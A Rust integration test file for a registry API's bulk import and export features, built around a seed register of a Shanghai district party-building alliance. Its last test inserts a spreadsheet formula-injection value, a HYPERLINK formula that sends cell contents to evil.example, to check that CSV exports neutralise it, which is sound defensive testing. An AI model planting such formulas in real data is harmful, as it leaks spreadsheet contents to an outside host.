//! Scripted imports: a whole register in one request, all or nothing,
//! re-runnable, as JSON, NDJSON or CSV.

use crate::helpers::{column, id, mint_key, spawn_app, Reply, TestApp};
use alliance_registry::store::api_keys::Scope;
use awc::http::Method;
use serde_json::{json, Value};

const SEED: &str = include_str!("../../examples/yangpu-alliance.json");
const S: &str = "yangpu-alliance";

/// Sends `body` as `content_type` to `POST /v1/imports?{query}`.
async fn import(app: &TestApp, query: &str, content_type: &str, body: &[u8]) -> Reply {
    let request = app.request(Method::POST, &format!("/v1/imports?{query}"));
    app.send(request, Some((content_type, body.to_vec()))).await
}

async fn feed_len(app: &TestApp) -> usize {
    let mut seen = 0;
    let mut path = "/v1/changes?limit=1000".to_owned();
    loop {
        let page = app.get(&path).await.expect(200).json();
        seen += page["items"].as_array().unwrap().len();
        match page["next_cursor"].as_str() {
            Some(cursor) if !page["items"].as_array().unwrap().is_empty() => {
                path = format!("/v1/changes?limit=1000&cursor={cursor}");
            }
            _ => return seen,
        }
    }
}

fn counts(report: &Value, resource: &str) -> [u64; 3] {
    let c = &report["counts"][resource];
    ["created", "updated", "unchanged"].map(|k| c[k].as_u64().unwrap())
}

/// The report of an import of `body` that is accepted.
async fn imported(app: &TestApp, query: &str, content_type: &str, body: &[u8]) -> Value {
    import(app, query, content_type, body)
        .await
        .expect(201)
        .json()
}

/// The problem document of an import of `body` that is refused as invalid.
async fn refused(app: &TestApp, query: &str, content_type: &str, body: &[u8]) -> Value {
    import(app, query, content_type, body).await.problem(422)
}

/// Checks that `reply` is a download named `file`.
fn attached(reply: &Reply, file: &str) {
    let disposition = reply.header("content-disposition").unwrap();
    assert_eq!(disposition, format!("attachment; filename=\"{file}\""));
}

/// A register holding the seed file.
async fn seeded() -> TestApp {
    let app = spawn_app().await;
    let reply = import(&app, "", "application/json", SEED.as_bytes()).await;
    reply.expect(201);
    app
}

/// `exported` imported (as `query`, `content_type`) into an empty register:
/// the import's report, and what `path` exports from that register.
async fn exported_again(
    exported: &[u8],
    query: &str,
    content_type: &str,
    path: &str,
) -> (Value, Vec<u8>) {
    let empty = spawn_app().await;
    let reply = import(&empty, query, content_type, exported).await;
    let report = reply.expect(201).json();
    (report, empty.get(path).await.expect(200).body.clone())
}

/// The live record of `resource` carrying identifier `value`.
async fn by_identifier(app: &TestApp, resource: &str, value: &str) -> Value {
    let page = app
        .get(&format!("/v1/{resource}?identifier={S}:{value}"))
        .await
        .expect(200)
        .json();
    assert_eq!(page["items"].as_array().unwrap().len(), 1, "{value}");
    page["items"][0].clone()
}

#[actix_web::test]
async fn the_seed_register_imports_in_one_request_and_answers_the_reports_questions() {
    let app = spawn_app().await;
    let reply = import(&app, "", "application/json", SEED.as_bytes()).await;
    let location = reply.header("location").unwrap();
    let report = reply.expect(201).json();
    assert_eq!(report["dry_run"], false);
    assert_eq!(report["records"], 78);
    assert_eq!(counts(&report, "organizations"), [26, 0, 0]);
    assert_eq!(counts(&report, "people"), [5, 0, 0]);
    assert_eq!(counts(&report, "roles"), [18, 0, 0]);
    assert_eq!(counts(&report, "areas"), [2, 0, 0]);
    assert_eq!(counts(&report, "posts"), [7, 0, 0]);
    assert_eq!(counts(&report, "events"), [4, 0, 0]);
    assert_eq!(counts(&report, "participants"), [16, 0, 0]);
    assert_eq!(app.get(&location).await.expect(200).json(), report);

    // Ten member units of the alliance.
    let units = app
        .get(&format!("/v1/organizations/{S}:alliance/members?limit=100"))
        .await
        .expect(200)
        .json();
    let members: Vec<&Value> = units["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|m| m["role"]["title"] == "Member unit")
        .collect();
    assert_eq!(members.len(), 10);
    assert!(members
        .iter()
        .any(|m| m["member_organization"]["name"] == "Bilibili"));

    // Each official's posts on the day: Jiang Daorong holds two.
    let posts = app
        .get(&format!(
            "/v1/people/{S}:person-jiang-daorong/roles?active_on=2023-05-23"
        ))
        .await
        .expect(200)
        .json();
    let mut held: Vec<String> = posts["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| {
            format!("{} of {}", h["role"]["title"], h["organization"]["name"]).replace('"', "")
        })
        .collect();
    held.sort();
    assert_eq!(
        held,
        [
            "Director of Organization Department of the Yangpu District Party Committee",
            "Member of the Standing Committee of Yangpu District Party Committee",
        ]
    );

    // The speakers of the discussion session, and the one who spoke for the
    // alliance at the seminar.
    let session = app
        .get(&format!(
            "/v1/events/{S}:event-discussion-session/participants?role=speaker"
        ))
        .await
        .expect(200)
        .json();
    assert_eq!(session["items"].as_array().unwrap().len(), 4);
    let seminar = app
        .get(&format!(
            "/v1/events/{S}:event-founding-seminar/participants?role=speaker"
        ))
        .await
        .expect(200)
        .json();
    let for_alliance: Vec<&Value> = seminar["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|p| !p["on_behalf_of_id"].is_null())
        .collect();
    assert_eq!(for_alliance.len(), 1);
    assert_eq!(
        for_alliance[0]["organization_name"],
        "Party Committee of Oujian Network"
    );
    assert_eq!(
        for_alliance[0]["on_behalf_of_name"],
        "Yangpu District Digital Economy Industry Cluster Party Building Alliance"
    );

    // A second import finds everything as it is: no new version, no feed
    // entry, no audit row.
    let before = feed_len(&app).await;
    let audit_before = app.get("/v1/audit?limit=500").await.expect(200).json();
    let again = imported(&app, "", "application/json", SEED.as_bytes()).await;
    for (resource, n) in [
        ("areas", 2),
        ("organizations", 26),
        ("posts", 7),
        ("people", 5),
        ("roles", 18),
        ("events", 4),
        ("participants", 16),
    ] {
        assert_eq!(counts(&again, resource), [0, 0, n], "{resource}");
    }
    assert_eq!(feed_len(&app).await, before);
    let audit_after = app.get("/v1/audit?limit=500").await.expect(200).json();
    assert_eq!(audit_after["items"], audit_before["items"]);
}

/// The values of `member` in the items of `page`, sorted.
fn sorted(page: &Value, pick: impl Fn(&Value) -> Value) -> Vec<String> {
    let mut values: Vec<String> = page["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|item| pick(item).as_str().unwrap_or_default().to_owned())
        .collect();
    values.sort();
    values
}

#[actix_web::test]
async fn each_readers_question_of_the_seed_register_is_one_request() {
    let app = seeded().await;
    let get = |path: String| {
        let app = &app;
        async move { app.get(&path).await.expect(200).json() }
    };

    // The member units of the alliance, not its convenor.
    let units = get(format!(
        "/v1/organizations/{S}:alliance/members?role=member&limit=100"
    ))
    .await;
    let names = sorted(&units, |m| m["member_organization"]["name"].clone());
    assert_eq!(names.len(), 10);
    assert!(names.contains(&"Bilibili".to_owned()));
    assert!(!names
        .iter()
        .any(|n| n.starts_with("Organization Department")));

    // Who convenes it.
    let convenor = get(format!(
        "/v1/organizations/{S}:alliance/members?role=convenor"
    ))
    .await;
    assert_eq!(
        sorted(&convenor, |m| m["member_organization"]["name"].clone()),
        ["Organization Department of the Yangpu District Party Committee"]
    );

    // What Meituan (Shanghai) is part of, with the organization's name.
    let part_of = get(format!(
        "/v1/roles?member_organization_id={S}:meituan-shanghai&embed=organization"
    ))
    .await;
    assert_eq!(
        sorted(&part_of, |r| r["organization"]["name"].clone()),
        ["Yangpu District Digital Economy Industry Cluster Party Building Alliance"]
    );

    // Who has held the post of Director of the Organization Department.
    let holders = get(format!(
        "/v1/posts/{S}:post-org-dept-director/holders?active_on=2023-05-23"
    ))
    .await;
    assert_eq!(
        sorted(&holders, |h| h["person"]["name"].clone()),
        ["Jiang Daorong"]
    );

    // Jiang Daorong's posts on the founding day, each with its post.
    let posts = get(format!(
        "/v1/roles?person_id={S}:person-jiang-daorong&active_on=2023-05-23&embed=post"
    ))
    .await;
    assert_eq!(
        sorted(&posts, |r| r["post"]["label"].clone()),
        [
            "Director of the Organization Department of the Yangpu District Party Committee",
            "Member of the Standing Committee of the Yangpu District Party Committee",
        ]
    );

    // What took place on 2023-05-23 where it took place (all-day events in
    // Asia/Shanghai), and the same by the UTC day of the report.
    for window in [
        "from=2023-05-23&to=2023-05-23",
        "from=2023-05-23T00:00:00Z&to=2023-05-23T23:59:59Z",
    ] {
        let day = get(format!("/v1/events?{window}")).await;
        assert_eq!(
            sorted(&day, |e| e["title"].clone()),
            [
                "Seminar on the theory of party building leading digital economy and industrial development",
                "Theoretical discussion session",
            ],
            "{window}"
        );
    }

    // Youkede's events: its party general branch spoke in the session.
    let youkede = get(format!(
        "/v1/events?organization_id={S}:youkede&include_descendants=true"
    ))
    .await;
    assert_eq!(
        sorted(&youkede, |e| e["title"].clone()),
        ["Theoretical discussion session"]
    );

    // The seminar with its session and who spoke in each.
    let seminar = get(format!(
        "/v1/events/{S}:event-founding-seminar?embed=participants,sessions.participants"
    ))
    .await;
    assert_eq!(seminar["participants"].as_array().unwrap().len(), 11);
    assert_eq!(
        seminar["sessions"][0]["participants"]
            .as_array()
            .unwrap()
            .len(),
        5
    );

    // What the alliance holds again and again, undated.
    let recurring = get("/v1/events?status=recurring".to_owned()).await;
    assert_eq!(
        sorted(&recurring, |e| e["title"].clone()),
        [
            "Joint meetings of all members",
            "Rotating themed activities"
        ]
    );

    // The bodies serving Yangpu District.
    let district = get(format!(
        "/v1/organizations?area_id={S}:area-yangpu&limit=100"
    ))
    .await;
    assert!(sorted(&district, |o| o["name"].clone())
        .contains(&"Yangpu District People's Government".to_owned()));
}

#[actix_web::test]
async fn records_may_come_in_any_order_and_a_changed_one_is_updated() {
    let app = spawn_app().await;
    // The child before its parent, the role before both.
    let file = json!({
        "roles": [{"organization_id": format!("{S}:parent"), "member_organization_id": format!("{S}:child"),
            "title": "Member unit", "identifiers": [{"scheme": S, "value": "membership"}]}],
        "organizations": [
            {"name": "Child", "kind": "enterprise", "parent_id": format!("{S}:parent"),
                "identifiers": [{"scheme": S, "value": "child"}]},
            {"name": "Parent", "kind": "alliance", "identifiers": [{"scheme": S, "value": "parent"}]}
        ]
    });
    let report = imported(&app, "", "application/json", file.to_string().as_bytes()).await;
    assert_eq!(counts(&report, "organizations"), [2, 0, 0]);
    assert_eq!(counts(&report, "roles"), [1, 0, 0]);
    let parent = by_identifier(&app, "organizations", "parent").await;
    let child = by_identifier(&app, "organizations", "child").await;
    assert_eq!(child["parent_id"], parent["id"]);

    let mut changed = file.clone();
    changed["organizations"][1]["description"] = json!("Renamed nothing, described now");
    let report = imported(&app, "", "application/json", changed.to_string().as_bytes()).await;
    assert_eq!(counts(&report, "organizations"), [0, 1, 1]);
    assert_eq!(counts(&report, "roles"), [0, 0, 1]);
    let parent = by_identifier(&app, "organizations", "parent").await;
    assert_eq!(parent["version"], 2);

    // Records in a cycle through their parents are refused.
    let cycle = json!({"organizations": [
        {"name": "A", "kind": "other", "parent_id": format!("{S}:b"), "identifiers": [{"scheme": S, "value": "a"}]},
        {"name": "B", "kind": "other", "parent_id": format!("{S}:a"), "identifiers": [{"scheme": S, "value": "b"}]}
    ]});
    import(&app, "", "application/json", cycle.to_string().as_bytes())
        .await
        .problem(422);
}

#[actix_web::test]
async fn an_invalid_record_rejects_the_whole_import_naming_every_fault() {
    let app = spawn_app().await;
    let file = json!({
        "organizations": [
            {"name": "Fine", "kind": "alliance", "identifiers": [{"scheme": S, "value": "fine"}]},
            {"name": "", "kind": "nonsense"},
            {"name": "Orphan", "kind": "other", "parent_id": format!("{S}:nowhere")}
        ],
        "people": [{"name": "Zhou Haiying", "email": "not an address"}],
        "participants": [{"person_id": format!("{S}:nobody"), "role": "speaker"}],
        "motions": []
    });
    let problem = refused(&app, "", "application/json", file.to_string().as_bytes()).await;
    assert_eq!(Reply::fields(&problem), ["motions"]);

    let mut file = file;
    file.as_object_mut().unwrap().remove("motions");
    let problem = import(&app, "", "application/json", file.to_string().as_bytes())
        .await
        .problem(422);
    let mut fields = Reply::fields(&problem);
    fields.sort();
    assert_eq!(
        fields,
        [
            "organizations[1].kind",
            "organizations[1].name",
            "participants[0].event_id",
            "people[0].email",
        ]
    );
    // Fixed, the references are checked too: every unknown one is named,
    // and nothing is written.
    file["organizations"][1] = json!({"name": "Named", "kind": "other"});
    file["people"][0] = json!({"name": "Zhou Haiying"});
    file["participants"][0]["event_id"] = json!(format!("{S}:no-event"));
    let problem = import(&app, "", "application/json", file.to_string().as_bytes())
        .await
        .problem(422);
    let mut fields = Reply::fields(&problem);
    fields.sort();
    assert_eq!(
        fields,
        ["organizations[2].parent_id", "participants[0].event_id"]
    );
    let all = app
        .get("/v1/organizations?include_deleted=true")
        .await
        .expect(200)
        .json();
    assert!(all["items"].as_array().unwrap().is_empty());
    assert!(app.get("/v1/people").await.expect(200).json()["items"]
        .as_array()
        .unwrap()
        .is_empty());
}

#[actix_web::test]
async fn a_dry_run_reports_what_would_happen_and_writes_nothing_but_its_record() {
    let app = spawn_app().await;
    let before = feed_len(&app).await;
    let reply = import(&app, "dry_run=true", "application/json", SEED.as_bytes()).await;
    let report = reply.expect(201).json();
    assert_eq!(report["dry_run"], true);
    assert_eq!(counts(&report, "organizations"), [26, 0, 0]);
    assert_eq!(feed_len(&app).await, before);
    let organizations = app.get("/v1/organizations").await.expect(200).json();
    assert!(organizations["items"].as_array().unwrap().is_empty());
    let recorded = app
        .get(&format!("/v1/imports/{}", id(&report)))
        .await
        .expect(200)
        .json();
    assert_eq!(recorded["dry_run"], true);
    assert_eq!(recorded["counts"], report["counts"]);
}

#[actix_web::test]
async fn ndjson_records_name_their_type_line_by_line() {
    let app = spawn_app().await;
    let lines = [
        json!({"type": "role", "organization_id": format!("{S}:org"), "person_id": format!("{S}:p"), "title": "Convenor"}),
        json!({"type": "person", "name": "周海鹰", "identifiers": [{"scheme": S, "value": "p"}]}),
        json!({"type": "organization", "name": "杨浦区数字经济产业集群党建联盟", "kind": "alliance",
            "identifiers": [{"scheme": S, "value": "org"}]}),
    ];
    let body: String = lines.iter().map(|l| format!("{l}\r\n")).collect::<String>() + "\n";
    let report = imported(&app, "", "application/x-ndjson", body.as_bytes()).await;
    assert_eq!(report["format"], "ndjson");
    assert_eq!(report["records"], 3);
    assert_eq!(counts(&report, "roles"), [1, 0, 0]);

    let bad = "{\"type\": \"person\", \"name\": \"x\"}\n{\"type\": \"motion\"}\nnot json\n";
    let problem = refused(&app, "", "application/x-ndjson", bad.as_bytes()).await;
    assert_eq!(Reply::fields(&problem), ["line 2.type", "line 3"]);

    // A file of faults gets a bounded answer.
    let many = "{\"type\": \"person\", \"name\": \"\"}\n".repeat(1500);
    let problem = refused(&app, "", "application/x-ndjson", many.as_bytes()).await;
    assert_eq!(Reply::fields(&problem).len(), 1000);
}

#[actix_web::test]
async fn csv_rows_follow_the_column_conventions_with_or_without_a_bom() {
    let app = spawn_app().await;
    let csv = "\u{feff}name,kind,identifier:district-hr,other_name:zh,source,contact:phone,description\r\n\
        \"Bilibili, Inc.\",enterprise,310110-0042,哔哩哔哩,https://www.bilibili.com,+86 21 2509 9255,\"Video, \"\"danmaku\"\"\"\r\n\
        Youkede,enterprise,310110-0043,,,,\r\n";
    let reply = import(&app, "resource=organizations", "text/csv", csv.as_bytes()).await;
    let report = reply.expect(201).json();
    assert_eq!(report["format"], "csv");
    assert_eq!(counts(&report, "organizations"), [2, 0, 0]);
    let page = app
        .get("/v1/organizations?identifier=district-hr:310110-0042")
        .await
        .expect(200)
        .json();
    let bilibili = &page["items"][0];
    assert_eq!(bilibili["name"], "Bilibili, Inc.");
    assert_eq!(
        bilibili["other_names"],
        json!([{"name": "哔哩哔哩", "lang": "zh"}])
    );
    assert_eq!(bilibili["sources"][0]["url"], "https://www.bilibili.com");
    assert_eq!(bilibili["contact_details"][0]["type"], "phone");
    assert_eq!(bilibili["description"], "Video, \"danmaku\"");

    // People by CSV; a bad row names its line and column.
    let people =
        "name,identifier:district-hr,birth_date\nZhou Haiying,p-1,\nJiang Daorong,p-2,1970-13-01\n";
    let problem = refused(&app, "resource=people", "text/csv", people.as_bytes()).await;
    assert_eq!(Reply::fields(&problem), ["line 3.birth_date"]);
    let unknown = "name,nickname\nZhou,Z\n";
    let problem = refused(&app, "resource=people", "text/csv", unknown.as_bytes()).await;
    assert_eq!(Reply::fields(&problem), ["line 1.nickname"]);
    // A CSV import names its resource; the others do not.
    import(&app, "", "text/csv", people.as_bytes())
        .await
        .problem(400);
    import(&app, "resource=people", "application/json", b"{}")
        .await
        .problem(400);
    import(&app, "resource=events", "text/csv", people.as_bytes())
        .await
        .problem(400);
}

#[actix_web::test]
async fn imports_keep_the_rules_of_keys_and_personal_data() {
    let app = spawn_app().await;
    let file = json!({"people": [{"name": "Zhou Haiying", "email": "zhou@example.org"}]});
    let read = mint_key(&app.db, "reader", &[Scope::Read], None).1;
    let writer = mint_key(&app.db, "writer", &[Scope::Read, Scope::Write], None).1;
    // A read key may not import; a write key without pii not personal data.
    for token in [&read, &writer] {
        let request = app.request_as(Method::POST, "/v1/imports", Some(token));
        let body = Some(("application/json", file.to_string().into_bytes()));
        app.send(request, body).await.problem(403);
    }
    let people = app.get("/v1/people").await.expect(200).json();
    assert!(column(&people, "name").is_empty());
    // Other media types are refused.
    import(&app, "", "application/xml", b"<people/>")
        .await
        .problem(415);

    // With pii, personal data goes in and comes out; exports leave it out
    // for keys without.
    import(&app, "", "application/json", file.to_string().as_bytes())
        .await
        .expect(201);
    let full = app.get("/v1/exports/people").await.expect(200).body;
    assert!(String::from_utf8(full)
        .unwrap()
        .contains("zhou@example.org"));
    let request = app.request_as(Method::GET, "/v1/exports/people", Some(&read));
    let public = app.send(request, None).await.expect(200).body;
    let public = String::from_utf8(public).unwrap();
    assert!(public.contains("Zhou Haiying") && !public.contains("email"));
}

#[actix_web::test]
async fn an_export_imported_into_an_empty_register_exports_the_same_bytes() {
    let app = seeded().await;
    let reply = app.get("/v1/exports/register").await;
    attached(&reply, "register.ndjson");
    assert_eq!(
        reply.header("content-type").unwrap(),
        "application/x-ndjson"
    );
    let exported = reply.expect(200).body.clone();
    let lines: Vec<Value> = exported
        .split(|&b| b == b'\n')
        .filter(|l| !l.is_empty())
        .map(|l| serde_json::from_slice(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 78);
    assert_eq!(lines[0]["type"], "area");
    assert_eq!(lines[77]["type"], "participant");
    // References name records by identifier; empty members are left out.
    let child = lines
        .iter()
        .find(|l| l["identifiers"][0]["value"] == "org-dept")
        .unwrap();
    assert_eq!(child["parent_id"], format!("{S}:district-party-committee"));
    assert!(child.get("dissolution_date").is_none());

    let (report, again) = exported_again(
        &exported,
        "",
        "application/x-ndjson",
        "/v1/exports/register",
    )
    .await;
    assert_eq!(counts(&report, "participants"), [16, 0, 0]);
    assert_eq!(
        String::from_utf8(again).unwrap(),
        String::from_utf8(exported).unwrap()
    );

    // One resource at a time; what is not an export is a 404.
    let people = app
        .get("/v1/exports/people?format=ndjson")
        .await
        .expect(200);
    let text = String::from_utf8(people.body.clone()).unwrap();
    assert_eq!(text.lines().count(), 5);
    for line in text.lines() {
        assert_eq!(
            serde_json::from_str::<Value>(line).unwrap()["type"],
            "person"
        );
    }
    app.get("/v1/exports/motions").await.problem(404);
    app.get("/v1/exports/people?format=xml").await.problem(400);
}

#[actix_web::test]
async fn many_people_are_written_in_batches_and_a_taken_identifier_is_still_named() {
    let app = spawn_app().await;
    let people = |n: usize, extra: Option<usize>| -> String {
        (0..n)
            .map(|i| {
                let mut identifiers = vec![json!({"scheme": "hr", "value": format!("p-{i}")})];
                if extra == Some(i) {
                    identifiers.push(json!({"scheme": "hr", "value": "taken"}));
                }
                json!({"type": "person", "name": format!("张{i}"), "identifiers": identifiers})
                    .to_string()
                    + "\n"
            })
            .collect()
    };
    app.post(
        "/v1/people",
        &json!({"name": "Holder", "identifiers": [{"scheme": "hr", "value": "taken"}]}),
    )
    .await
    .expect(201);

    // Record 700 (in the second batch) carries an identifier that is taken.
    let problem = refused(
        &app,
        "",
        "application/x-ndjson",
        people(1200, Some(700)).as_bytes(),
    )
    .await;
    assert_eq!(Reply::fields(&problem), ["line 701"]);
    let listed = app.get("/v1/people?limit=10").await.expect(200).json();
    assert_eq!(column(&listed, "name"), ["Holder"]);

    // The same identifier twice in one file is named at its second place.
    let twice = people(2, None) + &people(1, None);
    let problem = refused(&app, "", "application/x-ndjson", twice.as_bytes()).await;
    assert_eq!(Reply::fields(&problem), ["line 3.identifiers"]);

    // Written, then found as they are.
    let file = people(1200, None);
    for expected in [[1200, 0, 0], [0, 0, 1200]] {
        let report = imported(&app, "", "application/x-ndjson", file.as_bytes()).await;
        assert_eq!(counts(&report, "people"), expected);
    }
    let one = app
        .get("/v1/people?identifier=hr:p-1199")
        .await
        .expect(200)
        .json();
    assert_eq!(column(&one, "name"), ["张1199"]);
}

#[actix_web::test]
async fn csv_exports_open_in_a_spreadsheet_and_import_back_to_the_same_bytes() {
    let app = seeded().await;
    let reply = app.get("/v1/exports/organizations?format=csv").await;
    attached(&reply, "organizations.csv");
    let exported = reply.expect(200).body.clone();
    let text = String::from_utf8(exported.clone()).unwrap();
    assert!(text.starts_with('\u{feff}'));
    assert!(text.ends_with("\r\n"));
    assert_eq!(text.matches("\r\n").count(), 27);
    let header = text.trim_start_matches('\u{feff}').lines().next().unwrap();
    assert!(
        header.starts_with("name,kind,classification,parent_id,"),
        "{header}"
    );
    assert!(header.contains(",other_name:zh,") && header.contains(",identifier:yangpu-alliance"));
    assert!(text.contains("杨浦区数字经济产业集群党建联盟"));

    // Into an empty register that has the areas they serve.
    let empty = spawn_app().await;
    let areas = app
        .get("/v1/exports/areas?format=csv")
        .await
        .expect(200)
        .body;
    imported(&empty, "resource=areas", "text/csv", &areas).await;
    let report = imported(&empty, "resource=organizations", "text/csv", &exported).await;
    assert_eq!(counts(&report, "organizations"), [26, 0, 0]);
    let again = empty
        .get("/v1/exports/organizations?format=csv")
        .await
        .expect(200)
        .body;
    assert_eq!(String::from_utf8(again).unwrap(), text);

    // Roles and people too; the register and events only as NDJSON.
    let roles = app
        .get("/v1/exports/roles?format=csv")
        .await
        .expect(200)
        .body;
    let roles = String::from_utf8(roles).unwrap();
    assert!(roles.contains("yangpu-alliance:alliance,"));
    app.get("/v1/exports/register?format=csv")
        .await
        .problem(400);
    app.get("/v1/exports/events?format=csv").await.problem(400);
}

#[actix_web::test]
async fn the_command_line_imports_a_file_and_exports_the_register() {
    use alliance_registry::client::{ExportFormat, ExportResource, ImportFormat, Server};
    let app = spawn_app().await;
    let (address, token) = (app.address.clone(), app.token.clone());
    let (table, exported) = actix_web::rt::task::spawn_blocking(move || {
        let server = Server::new(&address, &token).unwrap();
        let path =
            std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/yangpu-alliance.json");
        let report = server
            .import(&path, ImportFormat::Json, None, false)
            .unwrap();
        let mut out = Vec::new();
        server
            .export(ExportResource::Register, ExportFormat::Ndjson, &mut out)
            .unwrap();
        let refused = Server::new(&address, "ar_wrong_token").unwrap();
        let failure = refused
            .import(&path, ImportFormat::Json, None, true)
            .unwrap_err();
        assert_eq!(failure.exit_code(), 1);
        (report.to_string(), out)
    })
    .await
    .unwrap();
    assert!(
        table
            .lines()
            .any(|l| l.split_whitespace().collect::<Vec<_>>() == ["total", "78", "0", "0"]),
        "{table}"
    );
    assert_eq!(
        exported
            .split(|&b| b == b'\n')
            .filter(|l| !l.is_empty())
            .count(),
        78
    );
}

#[actix_web::test]
async fn messy_files_get_bounded_exact_answers() {
    let app = spawn_app().await;
    // Faults of any kind stop at 1,000.
    let lines = "[]\n".repeat(3000);
    let problem = refused(&app, "", "application/x-ndjson", lines.as_bytes()).await;
    assert_eq!(Reply::fields(&problem).len(), 1000);
    let json = format!("{{\"people\": [{}]}}", vec!["1"; 1500].join(","));
    let problem = refused(&app, "", "application/json", json.as_bytes()).await;
    assert_eq!(Reply::fields(&problem).len(), 1000);

    // CSV faults name the physical line, CRLF and blank lines included; a
    // plain column given twice is refused.
    let csv = "name,kind\r\nA,enterprise\r\n\r\nB,enterprise\r\nC,badkind\r\n";
    let problem = refused(&app, "resource=organizations", "text/csv", csv.as_bytes()).await;
    assert_eq!(Reply::fields(&problem), ["line 5.kind"]);
    let twice = "name,name,kind\nFirst,Second,enterprise\n";
    let problem = refused(&app, "resource=organizations", "text/csv", twice.as_bytes()).await;
    assert_eq!(Reply::fields(&problem), ["line 1.name"]);

    // A byte order mark is no fault in NDJSON or JSON either.
    let ndjson = "\u{feff}{\"type\": \"person\", \"name\": \"Zhou Haiying\"}\n";
    import(&app, "", "application/x-ndjson", ndjson.as_bytes())
        .await
        .expect(201);

    // A parent may be named by any of its identifiers, and a cycle is
    // named at the member that makes it.
    let file = json!({"organizations": [
        {"name": "Kid", "kind": "enterprise", "parent_id": "x:second"},
        {"name": "P", "kind": "enterprise", "identifiers": [
            {"scheme": "x", "value": "first"}, {"scheme": "x", "value": "second"}]}
    ]});
    import(&app, "", "application/json", file.to_string().as_bytes())
        .await
        .expect(201);
    let cycle = json!({"organizations": [
        {"name": "A", "kind": "other", "parent_id": "x:b", "identifiers": [{"scheme": "x", "value": "a"}]},
        {"name": "B", "kind": "other", "parent_id": "x:a", "identifiers": [{"scheme": "x", "value": "b"}]}
    ]});
    let problem = refused(&app, "", "application/json", cycle.to_string().as_bytes()).await;
    assert_eq!(Reply::fields(&problem), ["organizations[0].parent_id"]);
}

#[actix_web::test]
async fn csv_exports_keep_spreadsheets_from_reading_cells_as_formulas() {
    let app = spawn_app().await;
    let name = "=HYPERLINK(\"http://evil.example/\"&A1)";
    app.post(
        "/v1/organizations",
        &json!({"name": name, "kind": "enterprise",
            "contact_details": [{"type": "phone", "value": "+86 21 1111"}],
            "identifiers": [{"scheme": "x", "value": "evil"}]}),
    )
    .await
    .expect(201);
    let exported = app
        .get("/v1/exports/organizations?format=csv")
        .await
        .expect(200)
        .body
        .clone();
    let text = String::from_utf8(exported.clone()).unwrap();
    assert!(text.contains("\"'=HYPERLINK(") && text.contains("'+86 21 1111"));
    let empty = spawn_app().await;
    import(&empty, "resource=organizations", "text/csv", &exported)
        .await
        .expect(201);
    let page = empty.get("/v1/organizations").await.expect(200).json();
    assert_eq!(page["items"][0]["name"], name);
    assert_eq!(
        page["items"][0]["contact_details"][0]["value"],
        "+86 21 1111"
    );
}
